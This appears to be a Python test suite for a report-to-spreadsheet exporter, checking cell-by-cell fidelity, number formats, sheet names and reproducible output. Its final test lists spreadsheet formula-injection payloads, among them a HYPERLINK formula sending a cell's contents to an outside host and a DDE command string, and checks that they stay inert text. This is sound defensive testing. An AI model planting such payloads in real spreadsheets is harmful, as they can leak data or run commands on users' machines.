"""The workbook beside a report: the page's tables cell by cell, as numbers; nothing that a spreadsheet would run."""

from __future__ import annotations

import io
import os
import pickle
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import is_dataclass, replace
from decimal import Decimal
from fractions import Fraction
from functools import cache
from typing import Any

import pytest

from reporting.context import build_context
from reporting.formats import (
    MISSING,
    Figure,
    amount_text,
    change_text,
    count_text,
    decimal_text,
    percent_text,
    points_text,
    with_unit,
)
from reporting.page import Chart, Form, PlacesChart, ReportContext, Row, Table
from reporting.render import to_html
from reporting.workbook import workbook_bytes
from reporting.workbook.grids import grids
from reporting.workbook.shapes import number_format, number_of
from tests.reporting import histories, places, sample
from tests.reporting.book import displayed, first_row, opened, shown_number, table_on
from tests.reporting.html_tables import html_tables
from tests.reporting.test_scorecard_annex import phu_tho
from tests.reporting.test_standings_annex import year_2022

NAMES = ("province", "district", "two-level", "gap", "nothing", "history", "places", "published")


def unit_context(given: Any, code: str | None) -> ReportContext:
    return build_context(given, unit=given.province.units.find(code, on=given.as_of) if code else None)


@cache
def context(name: str) -> ReportContext:
    whole = sample.report_input()
    match name:
        case "province":
            return unit_context(whole, None)
        case "district":
            return unit_context(whole, "570")
        case "two-level":
            return unit_context(sample.report_input("phu-tho", "2026Q3"), None)
        case "gap":
            return unit_context(sample.report_input(missing=["cam-lam"]), None)
        case "nothing":
            return unit_context(sample.report_input(missing=["cam-lam"]), "570")
        case "history":
            then = [histories.invented(whole.province, period) for period in ("2024Q3", "2023Q4")]
            return unit_context(histories.with_history(whole, then), None)
        case "places":
            rankings = (*places.khanh_son(), *places.son_trung(), *places.province())
            return unit_context(replace(whole, standings=(year_2022(),), rankings=rankings), None)
        case "published":
            return unit_context(phu_tho(), None)
    raise ValueError(name)


@cache
def book(name: str) -> Any:
    return opened(workbook_bytes(context(name)))


# The same figures as the page


@pytest.mark.parametrize("name", NAMES)
def test_every_table_of_the_page_stands_in_the_workbook_cell_by_cell(name: str) -> None:
    """The page as it is set, against the workbook as it is displayed: the two are made by code that shares nothing but
    the context."""
    tables = [table for table in html_tables(to_html(context(name))) if table.kind in {"own", "form"}]
    sheets = [sheet for sheet in book(name).worksheets[1:-1] if not sheet.title.startswith("Biểu đồ")]
    assert len(tables) == len(sheets) >= 3
    for table, sheet in zip(tables, sheets, strict=True):
        shown = table_on(sheet, len(table.rows))
        assert table.kind == "form" or shown.caption == table.caption
        for row, cells in zip(table.rows, shown.rows, strict=True):
            assert [*cells] == [text.strip() for text in row], f"{name}, {sheet.title}"
        assert [*shown.marks] == table.marks
        below = sheet.cell(first_row(sheet) + len(table.rows), 1)
        assert below.value is None, "nothing follows the last row"


@pytest.mark.parametrize("name", ["province", "district", "gap", "places"])
def test_every_bar_and_place_of_a_chart_stands_in_the_workbook(name: str) -> None:
    shown = {sheet["A1"].value: sheet for sheet in book(name).worksheets}
    charts = [part for part in parts_of(context(name)) if isinstance(part, Chart | PlacesChart)]
    assert charts
    for chart in charts:
        sheet = shown[chart.caption]
        drawn = chart.bars if isinstance(chart, Chart) else chart.rows
        for line, cells in zip(drawn, table_on(sheet, len(drawn)).rows, strict=True):
            if isinstance(chart, Chart):
                assert cells[:2] == (line.name, line.value)
                assert f"{cells[2]}/{cells[3]}" == line.basis
            else:
                assert cells == (line.name, line.years, line.before_text, line.now_text, line.change)


@pytest.mark.parametrize("name", NAMES)
def test_every_table_has_a_sheet_in_the_order_of_the_document(name: str) -> None:
    """Whatever part of the context it may stand in."""
    wanted = [p for p in parts_of(context(name)) if isinstance(p, Table | Form | Chart | PlacesChart)]
    captions = [p.number if isinstance(p, Form) else p.caption for p in wanted]
    assert [sheet["A1"].value for sheet in book(name).worksheets[1:-1]] == captions


def parts_of(value: Any) -> Iterator[Any]:
    """Every part below, in the order of the fields, which is that of the document."""
    if is_dataclass(value):
        yield value
        value = tuple(vars(value).values())
    if isinstance(value, tuple):
        for item in value:
            yield from parts_of(item)


def test_notes_sources_and_units_stand_with_the_table() -> None:
    for grid in grids(context("gap")):
        texts = texts_on(book("gap")[grid.name])
        assert grid.source in texts
        assert {*grid.before, grid.caption} <= texts
        assert {f"({n.mark}) {n.text}" if n.mark else n.text for n in grid.notes} <= texts
    assert any(grid.has_marks for grid in grids(context("gap")))


def texts_on(sheet: Any) -> set[str]:
    return {str(cell.value) for line in sheet.iter_rows() for cell in line if cell.value is not None}


def test_the_heads_of_the_form_are_the_template_s() -> None:
    (table, *_) = [t for t in html_tables(to_html(context("district"))) if t.kind == "form"]
    sheet = book("district")["PL I"]
    first = first_row(sheet)
    heads = [c.value for line in sheet.iter_rows(min_row=first - 4, max_row=first - 1) for c in line if c.value]
    printed = [text for row in table.head for text in row if text]
    assert [h for h in heads if h != "Ghi chú"] == printed
    merged = {str(part) for part in sheet.merged_cells.ranges}
    top = first - 4
    assert {f"A{top}:A{top + 2}", f"C{top}:F{top}", f"D{top + 1}:E{top + 1}", f"K{top}:M{top}"} <= merged


# Numbers are numbers

POINTS = '+#,##0.00" điểm %";"−"#,##0.00" điểm %";#,##0.00" điểm %"'


@pytest.mark.parametrize(
    ("figure", "value", "form"),
    [
        (count_text(2365), 2365, "#,##0"),
        (percent_text(9611, 10000), 0.9611, "#,##0.00%"),
        (percent_text(1, 3), 0.3333, "#,##0.00%"),
        (change_text(1, 1205), -1204, '+#,##0;"−"#,##0;#,##0'),
        (with_unit(points_text(Fraction(9611, 100), Fraction(9736, 100)), " điểm %"), -1.25, POINTS),
        (points_text(Fraction(1), Fraction(1)), 0, '+#,##0.00;"−"#,##0.00;#,##0.00'),
        (amount_text(Decimal("1234.50")), 1234.5, '#,##0.0;"−"#,##0.0;#,##0.0'),
        (with_unit(decimal_text(Decimal("89.20")), "%"), 0.892, "#,##0.00%"),
        (with_unit(count_text(10), " đơn vị"), 10, '#,##0" đơn vị"'),
    ],
)
def test_a_figure_becomes_the_number_that_is_printed(figure: str, value: float, form: str) -> None:
    assert isinstance(figure, Figure)
    assert (number_of(figure), number_format(figure)) == (value, form)
    assert shown_number(Decimal(str(number_of(figure))), number_format(figure)) == figure


def test_what_is_not_known_is_a_dash_in_letters() -> None:
    assert not isinstance(with_unit(percent_text(1, 0), " điểm %"), Figure)
    sheet = book("gap")["PL II"]
    dashes = [cell for line in sheet.iter_rows() for cell in line[2:] if cell.value == MISSING]
    assert dashes and all(cell.data_type == "s" for cell in dashes)


def test_columns_of_figures_can_be_added_up() -> None:
    """Numbers, not texts: the rows of form II.06 make its total, in the workbook itself."""
    sheet = book("two-level")["PL II"]
    first = first_row(sheet)
    lines = [line for line in sheet.iter_rows(min_row=first) if isinstance(line[2].value, int)]
    units, total = [line for line in lines if str(line[0].value or "").isdigit()], lines[-1]
    assert len(units) > 150 and total[1].value == "Tổng cộng"
    for column in range(2, 13):
        assert sum(line[column].value for line in units) == total[column].value


_NOT_FIGURES = {
    "a pair of counts": r"−?[\d.]+/[\d.]+",
    "a score over its maximum": r"[\d.]+(,\d+)?/[\d.]+(,\d+)?",
    "a count's change with its percent": r"[+−]?[\d.]+ \([+−]?[\d.,]+%\)",
    "a day or a time": r"(\d\d:\d\d )?\d{2}/\d{2}/\d{4}",
    "columns of the form": r"\([\d+/() ]+\)",
    "places moved": r"(tăng|giảm) \d+ bậc( \(theo công bố\))?",
    "a year, or two": r"(19|20)\d\d(, (19|20)\d\d)?",
    "the number of a row": r"\d{1,3}",
}
"""Kinds of printed cells of digits that are no single figure, and stay text."""
_WORDS = {"wide", "text"}
"""Columns of sentences and names, where digits belong to the words."""


@pytest.mark.parametrize("name", NAMES)
def test_a_cell_with_digits_is_a_figure_or_one_of_the_known_kinds(name: str) -> None:
    for grid in grids(context(name)):
        for line in grid.lines:
            for width, cell in zip(grid.widths, line.cells, strict=True):
                if isinstance(cell, Figure) or width in _WORDS or not re.search(r"\d", cell):
                    continue
                if width == "label" and re.search(r"[^\W\d]{4}", cell):
                    continue
                kind = [said for said, form in _NOT_FIGURES.items() if re.fullmatch(form, cell)]
                assert kind, f"{grid.caption}: {cell!r} should be a Figure"
                assert width != "figure" or kind != ["the number of a row"], f"{grid.caption}: {cell!r}"


# A workbook that any program opens


@pytest.mark.parametrize("name", NAMES)
def test_names_of_sheets_are_short_and_each_is_there_once(name: str) -> None:
    names = book(name).sheetnames
    assert (names[0], names[-1]) == ("Báo cáo", "Nguồn")
    assert len({n.lower() for n in names}) == len(names)
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\'") for n in names)
    assert "PL I" in names


def test_two_captions_of_one_name_have_a_sheet_each() -> None:
    given = context("district")
    part = given.provenance
    table = Table("Bảng 2. Hai lần", "", (), (), (), "")
    twice = replace(part, tables=(table, table, replace(table, caption="[A]: * rất dài " + "x" * 60)))
    names = [grid.name for grid in grids(replace(given, provenance=twice))]
    assert names[-4:-1] == ["Bảng 2 (2)", "Bảng 2 (3)", "A  rất dài xxxxxxxxxxxxxxxxxxxx"]


@pytest.mark.parametrize("name", ["province", "gap"])
def test_the_contents_lead_to_every_sheet(name: str) -> None:
    cover = book(name).worksheets[0]
    links = [cell.hyperlink.location for line in cover.iter_rows() for cell in line if cell.hyperlink]
    assert [re.sub(r"^'(.*)'!A1$", r"\1", link) for link in links] == book(name).sheetnames[1:-1]


def test_the_cover_says_what_page_1_says() -> None:
    given, texts = context("gap"), texts_on(book("gap").worksheets[0])
    assert {line for answer in given.answers for line in (*answer.lines, *answer.alert)} <= texts
    assert given.title in texts and given.data_note in texts
    cover = book("gap").worksheets[0]
    shown = {displayed(cell) for line in cover.iter_rows() for cell in line}
    assert {figure.value for figure in given.key_figures} <= shown


def test_a_preview_is_told_on_page_1_and_on_the_cover() -> None:
    given = build_context(sample.report_input("phu-tho", "2026Q3", as_of=sample.date(2026, 8, 20)), unit=None)
    assert f'<p class="preview">{given.preview}</p>' in to_html(given)
    assert given.preview in texts_on(opened(workbook_bytes(given)).worksheets[0])
    assert 'class="preview"' not in to_html(context("gap"))


def test_the_last_sheet_has_what_proves_the_report() -> None:
    given = context("district")
    sheet = opened(workbook_bytes(given, code="6014f5b2" * 8)).worksheets[-1]
    texts = texts_on(sheet)
    assert {given.proof.heading, given.proof.purpose, *given.proof.lines} <= texts
    assert any(text.startswith(given.proof.code_label) and "6014 f5b2 6014" in text for text in texts)


def test_heads_stay_in_sight_and_come_again_on_paper() -> None:
    for name, panes in (("PL I", "C"), ("Bảng 1", "B")):
        sheet = book("province")[name]
        assert str(sheet.freeze_panes).startswith(panes)
        assert sheet.print_title_rows and sheet.page_setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
        assert not sheet.protection.sheet


def test_the_properties_are_the_report_s() -> None:
    properties, given = book("province").properties, context("province")
    assert (properties.title, properties.creator) == (given.title, given.author)
    assert properties.created.strftime("%Y-%m-%dT%H:%M:%SZ") == given.created == "2024-12-15T01:36:00Z"
    assert properties.modified == properties.created


def test_same_bytes_in_another_process_time_zone_and_hash_seed() -> None:
    script = (
        "import pickle, sys; from reporting.workbook import workbook_bytes\n"
        "sys.stdout.buffer.write(workbook_bytes(pickle.load(sys.stdin.buffer)))"
    )
    env = {**os.environ, "PYTHONHASHSEED": "7", "TZ": "Asia/Ho_Chi_Minh"}
    given = pickle.dumps(context("district"))
    done = subprocess.run([sys.executable, "-c", script], env=env, input=given, capture_output=True, check=True)
    assert done.stdout == workbook_bytes(context("district"))


# Texts of others

HOSTILE = (
    '=HYPERLINK("http://ngoai.vn/?"&A1,"x")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "http://ngoai.vn/x",
    "mailto:a@b.vn",
    "_x0041_ </t><f>1+1</f>",
    "Lao \u202eđộng\x07\ufffe",
    "1234",
)


def spoiled() -> ReportContext:
    """Texts that mean no good in every place of a table."""
    given = context("district")
    table = given.provenance.tables[0]
    rows = tuple(Row("unit", (text, *[text] * (len(table.columns) - 1)), text) for text in HOSTILE)
    bad = replace(table, caption=f"Bảng 1. {HOSTILE[0]}", unit=HOSTILE[2], rows=rows, source=HOSTILE[1])
    return replace(given, provenance=replace(given.provenance, tables=(bad,), rules=HOSTILE), title=HOSTILE[0])


def test_no_text_becomes_a_formula_a_link_or_a_number() -> None:
    content = workbook_bytes(spoiled())
    found = opened(content)
    sheet = found["Bảng 1 (2)"]
    first = first_row(sheet)
    for text, line in zip(HOSTILE, sheet.iter_rows(min_row=first, max_row=first + len(HOSTILE) - 1), strict=True):
        for cell in line[:-1]:
            assert cell.data_type == "s" and cell.hyperlink is None
            assert cell.quotePrefix, "it stays text when somebody edits the cell"
            assert cell.value == re.sub("[\t\x07\u202e\ufffe]", "", text)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        written = "".join(parts.read(name).decode() for name in parts.namelist() if name.endswith((".xml", ".rels")))
    assert "<f>" not in written and "<f " not in written
    assert "TargetMode" not in written, "no link leads out of the workbook"
